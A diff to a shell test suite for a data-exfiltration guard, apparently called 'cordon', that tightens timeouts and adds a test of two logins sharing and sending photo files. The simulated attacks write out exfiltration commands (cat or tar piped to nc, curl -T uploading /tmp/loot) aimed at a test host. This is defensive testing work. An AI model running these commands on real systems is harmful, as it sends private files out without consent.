@@ -64,9 +64,9 @@ incident_soon()
 {
 	local i
 
-	for ((i = 0; i < 20; i++)); do
+	for ((i = 0; i < 40; i++)); do
 		incident_is "$1" && return
-		nap 1
+		nap 0.5
 	done
 	return 1
 }
@@ -82,10 +82,10 @@ shown()
 incident_attack()
 {
 	new_login
-	by_login "cat $ic/photos/00005?.jpg | timeout 5 nc -N $there $port;
+	by_login "cat $ic/photos/00005?.jpg | timeout 2 nc -N $there $port;
 		cat $ic/photos/0000[1-3]?.jpg >/tmp/loot;
-		tar -cf - -C /tmp loot | gzip | timeout 5 nc -N $there $port;
-		timeout 5 nc -N $there $port </tmp/loot;
+		tar -cf - -C /tmp loot | gzip | timeout 2 nc -N $there $port;
+		timeout 2 nc -N $there $port </tmp/loot;
 		sleep 0.2;
 		curl -sS -m 3 -T /tmp/loot http://$there:$port/"
 	rm -f /tmp/loot
@@ -159,6 +159,33 @@ incident_exposed()
 		exposed_is "50,50,contained,none"
 }
 
+# together_is WANTED: what the last login's origin has read, and its fate.
+together_is()
+{
+	local origin
+
+	origin=$(cordon ledger --json | jq -r --arg l "$login" \
+		'select(.type == "origin" and .login == $l) | .origin')
+	told=$("$bin/cordon" exposed --origin "${origin:-0}" --json \
+		"$state/evidence" | jq -rs '"\(length) \(map(.fate) | unique |
+			join(" "))"')
+	[ "$told" = "$1" ]
+}
+
+# Who takes from another one first, and sends both, sends of both.
+incident_together()
+{
+	new_login
+	by_login "cat $ic/photos/00000[1-5].jpg >/tmp/share"
+	new_login
+	by_login "cat /tmp/share $ic/photos/00001?.jpg |
+		timeout 2 nc -N $there $port"
+	waits 20 together_is "10 possibly released"
+	check exposed_is_released_when_sent_with_others "$told" \
+		together_is "10 possibly released"
+	rm -f /tmp/share
+}
+
 # For others, from a copy of the folder: proven, or it says so.
 incident_report()
 {
@@ -188,7 +215,7 @@ incident_another()
 # The guard tells of every power of two, and counts each.
 incident_storm()
 {
-	local n=20000
+	local n=5000
 
 	new_login
 	by_login "exec python3 - $there $port $n $ic/photos/*" <<-'P'
@@ -219,16 +246,21 @@ incident_lives()
 	first=$number
 	agent_stop -KILL
 	agent_start
-	by_login "cat $ic/photos/00001?.jpg | timeout 5 nc -N $there $port"
-	incident_soon '.gaps[0].why == "agent" and .state == "updated"'
+	by_login "cat $ic/photos/00001?.jpg | timeout 2 nc -N $there $port"
+	incident_soon '.gaps[0].why == "agent" and .state == "updated" and
+		.blocked >= 3'
 	check incident_goes_on_when_the_agent_died "$json" \
-		of ".incident == $first and .gaps[0].from < .gaps[0].to"
+		of ".incident == $first and .gaps[0].from < .gaps[0].to and
+			.blocked >= 3 and .released_bytes > 0"
 	agent_stop
 	agent_detach
 	agent_start
 	incident_find
 	check incident_is_closed_when_the_guard_is_another "$json" \
-		of '.state == "closed" and .why == "guard"'
+		of '.state == "closed" and .why == "guard" and .blocked >= 3'
+	waits 2 exposed_is "40,40,possibly released,10"
+	check records_are_its_own_when_the_guard_is_another "$told" \
+		exposed_is "40,40,possibly released,10"
 	incident_attack
 	incident_soon '.blocked >= 1'
 	check numbers_go_on_when_the_guard_is_another "$number" \
@@ -270,6 +302,7 @@ incident_cases()
 	incident_exposed
 	incident_another
 	incident_storm
+	incident_together
 	incident_lives
 	agent_stop
 	incident_index
